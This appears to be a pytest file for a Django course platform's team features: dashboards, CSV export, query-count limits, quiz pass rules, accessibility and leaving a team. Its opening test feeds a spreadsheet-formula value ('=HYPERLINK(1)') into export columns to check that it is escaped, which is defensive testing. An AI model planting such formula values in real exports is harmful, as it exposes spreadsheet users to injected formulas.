    monkeypatch.setattr(
        export_module, "EXTRA_COLUMN_GROUPS", [lambda t, c: Plain(), lambda t, c: Trusted()]
    )
    header, *rows = parse_csv(export(client_for(instructor), team))
    assert header[-2:] == ["Note", "Trusted"]
    assert {tuple(row[-2:]) for row in rows} == {("'=HYPERLINK(1)", "=HYPERLINK(1)")}


# --- query counts ---


def add_members(team, django_user_model, count: int, start: int = 0) -> None:
    users = django_user_model.objects.bulk_create(
        [django_user_model(username=f"member{n:03d}") for n in range(start, start + count)]
    )
    Membership.objects.bulk_create([Membership(team=team, user=user) for user in users])
    sections = list(Section.objects.filter(lesson__course__teams=team))
    quizzes = list(Quiz.objects.filter(course__teams=team))
    now = timezone.now()
    SectionProgress.objects.bulk_create(
        [
            SectionProgress(user=user, section=section, read_at=now)
            for user in users
            for section in sections[: 1 + user.id % len(sections)]
        ]
    )
    recount(user_ids=[u.id for u in users])  # bulk_create sends no signal to count them
    Attempt.objects.bulk_create(
        [
            Attempt(user=user, quiz=quiz, finished_at=now, score=user.id % 2, total=1)
            for user in users
            for quiz in quizzes
        ]
    )


def add_lessons(course, count: int) -> None:
    for n in range(count):
        lesson = Lesson.objects.create(
            course=course, slug=f"extra-{n}", order=100 + n, title=f"Extra {n}", published=True
        )
        for s in range(3):
            Section.objects.create(lesson=lesson, slug=f"s{s}", order=s, title=f"Part {s}")
        Quiz.objects.create(
            slug=f"extra-quiz-{n}", title=f"Extra quiz {n}", course=course, lesson=lesson
        )


# Session, user, team, role; content (3); summary (3); the page (3); its figures (2); the
# courses in the header (1). The export:
# content (3), the ids' cursor, then 3 a chunk of 500 members.
# +1 each: the members' assignments (teams/assignments.py), one query when the team has none;
# the export +1 per chunk: the members' answers by ICA domain (teams/domain_report.py).
# Practice tasks (teams/task_report.py, tests/test_practice_teams.py): the team's tasks (1), the
# page's passes (1) and the summary's task figures (2, none without a task); the export, the
# team's tasks (1) and +1 per chunk when there are tasks.
QUERY_BUDGET = {"team-dashboard": 21, "team-export": 15}


def body_of(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


@pytest.mark.parametrize("url_name", ["team-dashboard", "team-export"])
def test_dashboard_and_export_query_counts_are_constant(
    team, instructor, mini_course, django_user_model, django_assert_max_num_queries, url_name
):
    client = client_for(instructor)
    url = reverse(url_name, args=[team.slug])
    add_members(team, django_user_model, 1)  # 3 members: ada, ines and one more
    assert team.memberships.count() == 3
    with django_assert_max_num_queries(QUERY_BUDGET[url_name]) as small:
        small_body = body_of(client.get(url))
    add_members(team, django_user_model, 57, start=1)
    add_lessons(mini_course, 5)
    assert team.memberships.count() == 60
    with django_assert_max_num_queries(QUERY_BUDGET[url_name]) as large:
        large_body = body_of(client.get(url, {"sort": "completion"}))
    assert len(large.captured_queries) == len(small.captured_queries)
    # Which members make the first page by completion depends on their ids (add_members), and
    # PostgreSQL's ids depend on the tests run before: any of the 57 added will do.
    added = {f"member{n:03d}" for n in range(1, 58)}
    assert added & set(re.findall(r"member\d{3}", large_body)) and "Extra 4" in large_body
    assert not added & set(re.findall(r"member\d{3}", small_body))
    counts = len(small.captured_queries), len(large.captured_queries)
    print(f"{url_name}: {counts[0]} queries for 3 members, {counts[1]} for 60")  # for the report


def test_member_page_query_count_does_not_grow_with_the_team(team, instructor, django_user_model):
    client = client_for(instructor)
    with CaptureQueriesContext(connection) as small:
        client.get("/teams/platform/members/ada/")
    add_members(team, django_user_model, 40)
    with CaptureQueriesContext(connection) as large:
        client.get("/teams/platform/members/ada/")
    assert len(large.captured_queries) == len(small.captured_queries)


def test_home_query_count_with_teams_is_constant(
    team, learner, other_team, django_user_model, mini_course
):
    client = client_for(learner)
    with CaptureQueriesContext(connection) as one:
        client.get("/")
    for n in range(4):
        extra = team_create(
            name=f"Extra {n}", slug=f"extra-{n}", courses=[mini_course], creator=learner
        )
        membership_join(team=extra, user=learner)
    with CaptureQueriesContext(connection) as many:
        html = client.get("/").content.decode()
    assert "Extra 3" in html
    assert len(many.captured_queries) == len(one.captured_queries)


# --- end to end ---


def test_instructor_and_learner_journeys_end_to_end(
    monkeypatch, mini_course, learner, django_user_model
):
    from django.core.management import call_command

    from .test_instructors import _lesson_form

    # An instructor is made with the command and authors a lesson in the admin.
    monkeypatch.setenv("DJANGO_INSTRUCTOR_PASSWORD", "a-long-instructor-passphrase")
    call_command("createinstructor", "ines", "--email", "ines@example.com", "--no-input")
    ines = client_for(django_user_model.objects.get(username="ines"))
    form = _lesson_form(
        ines,
        course=mini_course.pk,
        slug="third",
        title="Third lesson",
        order="30",
        published="on",
    )
    sections = [("one", "Part one", "Sidecars carry the mesh."), ("two", "Part two", "The end.")]
    form["sections-TOTAL_FORMS"] = str(len(sections))
    for index, (slug, title, body) in enumerate(sections):
        form |= {
            f"sections-{index}-order": str(index),
            f"sections-{index}-title": title,
            f"sections-{index}-slug": slug,
            f"sections-{index}-kind": "text",
            f"sections-{index}-body_markdown": body,
            f"sections-{index}-sources": "[]",
        }
    response = ines.post(reverse("admin:lessons_lesson_add"), form)
    assert response.status_code == 302, re.findall(r"errorlist.*?</ul>", response.content.decode())
    lesson = Lesson.objects.get(course=mini_course, slug="third")
    assert list(lesson.sections.values_list("slug", flat=True)) == ["one", "two"]

    # The instructor creates a team for the course and copies its invite link.
    response = ines.post(reverse("team-new"), {"name": "Mesh pilots", "courses": [mini_course.pk]})
    dashboard_url = response["Location"]
    page = ines.get(dashboard_url).content.decode()
    invite = re.search(r'id="invite-url" type="text" value="http://testserver([^"]+)"', page)
    assert invite and "No learner has joined yet" in page

    # A learner opens the link, confirms, and finds the team's course on the home page.
    ada = client_for(learner)
    assert "Join the team as ada" in ada.get(invite.group(1)).content.decode()
    assert ada.post(invite.group(1)).status_code == 302
    home = ada.get("/").content.decode()
    assert "Mesh pilots" in home and "A small mesh course" in home

    # They read the new lesson and take the first lesson's quiz through the quiz pages.
    for slug in ("one", "two"):
        ada.post(reverse("mark-read", args=[mini_course.slug, "third", slug]))
    quiz = Quiz.objects.get(slug="first-check")
    ada.post(reverse("quiz-start", args=[quiz.slug]))
    attempt = Attempt.objects.get(user=learner, quiz=quiz)
    question = quiz.questions.get()
    ada.post(
        reverse("quiz-answer", args=[quiz.slug]),
        {
            "attempt": attempt.pk,
            "question": question.pk,
            "choice": form_values(
                attempt, question, [c.pk for c in question.choices.filter(is_correct=True)]
            ),
        },
    )
    attempt.refresh_from_db()
    assert attempt.finished_at is not None and attempt.percent == 100

    # The dashboard shows it: 2 of 6 sections, the quiz taken; the course page has the
    # third lesson completed, the quiz at 100 % in one attempt.
    html = ines.get(dashboard_url).content.decode()
    row = matrix_row(html, "ada")
    assert "Third lesson" in html  # in the summary's lesson figures
    assert attempt.finished_at.strftime("%-d %b %Y, %H:%M") in row
    assert '<span class="cell-figure">33%</span>' in row  # 2 of 6 sections
    assert '100% <span class="meta">1 of 2 taken</span>' in row
    row = matrix_row(ines.get(dashboard_url + "progress/mini-mesh/").content.decode(), "ada")
    assert row.count("cell-completed") == 1 and "cell-not-started" in row
    assert '100% <span class="meta">(1)</span>' in row
    # And so does the CSV.
    rows = parse_csv(ines.get(dashboard_url + "export.csv"))
    ada_row = dict(zip(rows[0], next(r for r in rows if r[0] == "ada"), strict=True))
    assert ada_row["A small mesh course / Third lesson"] == "Completed"
    assert ada_row["A small mesh course / First lesson"] == "Not started"
    assert ada_row["Check the first lesson: best %"] == "100"
    assert ada_row["Check the first lesson: attempts"] == "1"
    assert ada_row["Sections read"] == "2" and ada_row["Sections total"] == "6"
    # The learner cannot see any of it.
    assert ada.get(dashboard_url).status_code == 404
    assert ada.get(dashboard_url + "export.csv").status_code == 404


# --- who passed each quiz: the rule of the learner's own pages (quizzes.results) ---

PASSED = '<span class="status status-completed">passed</span>'


@pytest.fixture
def carol_in_team(django_user_model, team):
    carol = django_user_model.objects.create_user("carol", password=PASSWORD)
    membership_join(team=team, user=carol)
    return carol


def judged_at(attempt: Attempt, mark: int) -> None:
    Attempt.objects.filter(pk=attempt.pk).update(pass_percent=mark)


def quiz_cells(row: str) -> list[str]:
    return row.split("</td>")[-3:-1]  # first-check, mini-final: the last two cells


def test_a_pass_under_the_mark_of_its_day_stays_a_pass(team, learner, instructor):
    quiz = Quiz.objects.get(slug="first-check")
    judged_at(finish_attempt(learner, quiz.slug, 7, 10), 70)
    Quiz.objects.filter(pk=quiz.pk).update(pass_percent=90)
    judged_at(finish_attempt(learner, quiz.slug, 8, 10), 90)  # better score, failed
    row = matrix_row(course_page(client_for(instructor), team).content.decode(), "ada")
    first_check, _ = quiz_cells(row)
    assert '80% <span class="meta">(2)</span>' in first_check and PASSED in first_check


def test_scores_under_the_mark_are_not_passes(team, learner, instructor):
    finish_attempt(learner, "first-check", 1, 3)  # 33 % against the default mark
    finish_attempt(learner, "mini-final", 0, 0)  # nothing asked: nobody passes that
    Attempt.objects.create(user=learner, quiz=Quiz.objects.get(slug="mini-final"))  # open
    row = matrix_row(course_page(client_for(instructor), team).content.decode(), "ada")
    assert PASSED not in row
    assert '33% <span class="meta">(1)</span>' in row


def test_an_older_attempt_without_a_kept_mark_is_judged_by_the_quiz_s(team, learner, instructor):
    attempt = finish_attempt(learner, "first-check", 3, 4)  # 75 %, pass_percent left empty
    assert attempt.pass_percent is None
    client = client_for(instructor)
    Quiz.objects.filter(slug="first-check").update(pass_percent=75)
    assert PASSED in matrix_row(course_page(client, team).content.decode(), "ada")
    Quiz.objects.filter(slug="first-check").update(pass_percent=76)
    assert PASSED not in matrix_row(course_page(client, team).content.decode(), "ada")


def test_the_team_row_gives_each_quiz_s_pass_rate_among_learners(
    team, learner, carol_in_team, instructor
):
    finish_attempt(learner, "first-check", 1, 1)
    finish_attempt(carol_in_team, "first-check", 0, 1)
    finish_attempt(instructor, "first-check", 1, 1)  # instructors are not counted
    html = course_page(client_for(instructor), team).content.decode()
    footer = html.split("<tfoot>")[1].split("</tfoot>")[0]
    # first-check: 1 of 2 learners passed; mini-final: nobody has tried it yet.
    cells = re.findall(r'<td class="num">([^<]+)</td>', footer)[-2:]
    assert cells == ["50% passed", "—"]
    assert PASSED in matrix_row(html, "ada") and PASSED not in matrix_row(html, "carol")


def test_the_export_has_a_passed_column_per_quiz(team, learner, carol_in_team, instructor):
    finish_attempt(learner, "first-check", 1, 1)
    finish_attempt(carol_in_team, "first-check", 0, 1)
    header, *rows = parse_csv(export(client_for(instructor), team))
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_name["ada"]["Check the first lesson: passed"] == "yes"
    assert by_name["carol"]["Check the first lesson: passed"] == "no"
    assert by_name["ada"]["Mini final: passed"] == "no"


# --- the dashboard's invite box and table, for keyboards and second thoughts ---


def test_revoking_the_invite_link_is_a_deliberate_second_step(team, instructor):
    html = client_for(instructor).get(reverse("team-dashboard", args=[team.slug])).content.decode()
    details = html[html.index('<details class="invite-revoke">') :]
    details = details[: details.index("</details>")]
    # The only form that revokes sits inside the closed disclosure, and says what it does.
    assert html.count(reverse("team-regenerate-invite", args=[team.slug])) == 1
    assert reverse("team-regenerate-invite", args=[team.slug]) in details
    assert "stops working" in details and "Revoke it and make a new link" in details
    # Copying needs JavaScript: the button starts hidden and names the field it copies.
    assert 'data-copy="invite-url" hidden' in html


def test_the_team_table_scrolls_from_the_keyboard(team, instructor, learner):
    membership_join(team=team, user=learner)
    html = client_for(instructor).get(reverse("team-dashboard", args=[team.slug])).content.decode()
    wrap = re.search(r'<div id="member-table"[^>]*>', html).group(0)
    assert 'tabindex="0"' in wrap and 'role="region"' in wrap
    # Named apart from its section ("Progress"): two landmarks of one name confuse (axe).
    assert 'aria-label="Members\' progress (table)"' in wrap and 'id="progress-title"' in html


def test_team_admin_shows_the_whole_invite_link_and_member_pages_an_instructor_may_open(
    team, instructor, learner
):
    membership_join(team=team, user=learner)
    client = client_for(instructor)
    html = client.get(reverse("admin:teams_team_change", args=[team.pk])).content.decode()
    assert f"<code>http://testserver/teams/join/{team.invite_token}/</code>" in html
    member_url = reverse("team-member", args=[team.slug, learner.username])
    assert f'<a href="{member_url}">{learner.username}</a>' in html
    assert "/admin/auth/user/" not in html  # a page the instructor may not open
    assert "address, /teams/this-slug/:" in html  # help text that survives being HTML
    assert client.get(member_url).status_code == 200


def test_member_page_says_what_its_quiz_score_averages(team, learner, instructor):
    finish_attempt(learner, "first-check", 1, 2)  # 50 % on one of the team's two quizzes
    page = client_for(instructor).get("/teams/platform/members/ada/").content.decode()
    assert "quiz score 50%: the mean of the best scores over the quizzes taken" in page
    assert "1 of 2 taken (a quiz not taken does not count)" in page


def test_an_instructors_own_reading_on_home_is_labelled_as_theirs(team, instructor, learner):
    html = client_for(instructor).get("/").content.decode()
    teams = html[html.index('id="teams-title"') :]
    assert "you: 0% read" in teams
    learner_home = client_for(learner).get("/").content.decode()
    assert "you: " not in learner_home[learner_home.index('id="teams-title"') :]


# --- a learner may leave a team (lead review: the join page promises they can be seen) ---


def test_a_learner_leaves_a_team_and_its_instructor_no_longer_sees_them(team, learner, instructor):
    read(learner, "first", "intro")
    client = client_for(learner)
    listing = client.get(reverse("team-list")).content.decode()
    assert f'action="{reverse("team-leave", args=[team.slug])}"' in listing
    response = client.post(reverse("team-leave", args=[team.slug]), follow=True)
    assert response.redirect_chain[-1][0] == reverse("team-list")
    assert "You left Platform team" in response.content.decode()
    assert not Membership.objects.filter(team=team, user=learner).exists()
    assert SectionProgress.objects.filter(user=learner).count() == 1  # their progress stays
    dashboard = client_for(instructor).get(team.get_absolute_url()).content.decode()
    assert learner.username not in dashboard
    member = reverse("team-member", args=[team.slug, learner.username])
    assert client_for(instructor).get(member).status_code == 404


def test_leaving_needs_a_post_a_csrf_token_and_a_learner_membership(
    team, learner, instructor, other_learner
):
    url = reverse("team-leave", args=[team.slug])
    assert client_for(learner).get(url).status_code == 405
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(learner)
    assert strict.post(url).status_code == 403
    assert client_for(other_learner).post(url).status_code == 404  # not in the team
    assert client_for(instructor).post(url).status_code == 404  # runs it: not a learner there
    assert client_for(None).post(url).status_code == 302  # to the sign-in page
    assert Membership.objects.filter(team=team).count() == 2
